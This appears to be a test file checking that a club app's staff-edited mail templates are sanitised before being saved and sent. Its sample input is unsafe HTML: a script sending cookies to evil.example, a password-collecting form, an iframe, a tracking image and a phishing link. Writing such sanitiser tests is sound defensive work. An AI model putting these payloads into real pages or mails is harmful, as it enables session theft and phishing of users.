import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StaffLanguageContent } from '@club/contract/staff-content';
import { dataOf } from '../../testing/agent-requests.js';
import { createStaff, staffCall, staffLogin } from '../../testing/staff-helpers.js';
import { createTestApp, type TestApp } from '../../testing/test-app.js';
import { auditEntries } from '../audit/schema.js';
import { texts } from '../content/schema.js';
import { renderMail } from '../mail/mail-templates.js';

/**
 * Mail templates staff write are made safe when saved (the answer says what
 * was removed) and again whenever a mail is made from them, so that members
 * never get scripts, forms, frames, tracking images or links to other sites
 * from the club's own sender. The test app's hosts: `localhost:3000` and its
 * country subdomains.
 */
let t: TestApp;
let token: string;
const clock = Date.parse('2030-04-01T08:00:00Z');

beforeAll(async () => {
  t = await createTestApp({ now: () => clock });
  token = await staffLogin(t.app, await createStaff(t.database.db, 'manager', ['gr']), clock);
});
afterAll(() => t.close());

const url = '/s2c/staff/v1/content/gr/eng/mail-templates/confirm-email';
const subject = 'Confirm your email';
const text = 'Open {{link}} to confirm member {{number}}.';
const unsafe =
  '<p onmouseover="steal()">Hello, member {{number}}</p>' +
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
  '<form action="https://evil.example/collect"><input name="password">Your password</form>' +
  '<iframe src="https://evil.example/frame"></iframe>' +
  '<img src="https://tracker.example/open.gif?m={{number}}">' +
  '<img src="http://localhost:3000/media/logo.png" alt="The club">' +
  '<p><a href="https://evil.example/login">Log in here</a> or ' +
  '<a href="http://gr.localhost:3000/faq">read the rules</a>, then ' +
  '<a href="{{link}}">confirm</a>.</p>';
const safe =
  '<p>Hello, member {{number}}</p>Your password' +
  '<img src="http://localhost:3000/media/logo.png" alt="The club">' +
  '<p><a>Log in here</a> or <a href="http://gr.localhost:3000/faq">read the rules</a>, then ' +
  '<a href="{{link}}">confirm</a>.</p>';
const removed = [
  'the onmouseover attribute of <p>',
  '<script> and its content',
  '<form> (its text is kept)',
  '<input> (its text is kept)',
  '<iframe> and its content',
  'an image from https://tracker.example/open.gif?m={{number}}',
  'a link to https://evil.example/login (its text is kept)',
];

const sent = (variables: Record<string, string>) =>
  renderMail(t.database.db, {
    template: 'confirm-email',
    countryCode: 'gr',
    languageCode: 'eng',
    variables,
  });

describe('a mail template saved with unsafe HTML', () => {
  it('is kept sanitised, and the answer and the audit say what was removed', async () => {
    const response = await staffCall(t.app, token, 'PUT', url, { subject, text, html: unsafe });
    expect(response.statusCode, response.body).toBe(200);
    expect(dataOf<{ version: number; removed: string[] }>(response)).toEqual({
      version: expect.any(Number) as unknown,
      removed,
    });
    const content = dataOf<StaffLanguageContent>(
      await staffCall(t.app, token, 'GET', '/s2c/staff/v1/content/gr/eng'),
    );
    expect(
      content.mailTemplates.find((template) => template.template === 'confirm-email')?.html,
    ).toBe(safe);
    const [audit] = await t.database.db
      .select({ after: auditEntries.after })
      .from(auditEntries)
      .where(eq(auditEntries.target, 'gr/eng/mail/confirm-email'));
    expect(audit?.after).toEqual({ subject, text, html: safe, removedFromHtml: removed });
  });

  it('makes mails without any of it, the link filled in', async () => {
    const mail = await sent({ link: 'http://gr.localhost:3000/confirm?token=abc', number: '1001' });
    expect(mail.html).toContain(
      '</p>Your password<img src="http://localhost:3000/media/logo.png" alt="The club">',
    );
    expect(mail.html).toContain('<a href="http://gr.localhost:3000/confirm?token=abc">confirm</a>');
    expect(mail.html).not.toMatch(/script|evil\.example|tracker\.example|<form|<iframe|onmouse/);
  });

  it('is refused when nothing is left of its HTML', async () => {
    const response = await staffCall(
      t.app,
      token,
      'PUT',
      '/s2c/staff/v1/content/gr/eng/mail-templates/password-changed',
      {
        subject: 'Your password has changed',
        text: 'Contact us: {{support}}',
        html: '<script>alert(1)</script><style>p{}</style>',
      },
    );
    expect(response.statusCode).toBe(400);
    expect(dataOf<Record<string, string>>(response).html).toContain('Nothing is left of the HTML');
  });
});

describe('a mail template that reached the database another way (a content file)', () => {
  it('is sanitised when a mail is made from it', async () => {
    await t.database.db
      .update(texts)
      .set({ value: unsafe })
      .where(
        and(
          eq(texts.countryCode, 'gr'),
          eq(texts.languageCode, 'eng'),
          eq(texts.key, 'mail.confirm-email.html'),
        ),
      );
    const mail = await sent({ link: 'http://gr.localhost:3000/confirm?token=abc', number: '1001' });
    expect(mail.html).not.toMatch(/script|evil\.example|tracker\.example|<form|<iframe|onmouse/);
    expect(mail.html).toContain('<a href="http://gr.localhost:3000/faq">read the rules</a>');
    expect(mail.html).toContain('<a href="http://gr.localhost:3000/confirm?token=abc">confirm</a>');
  });
});
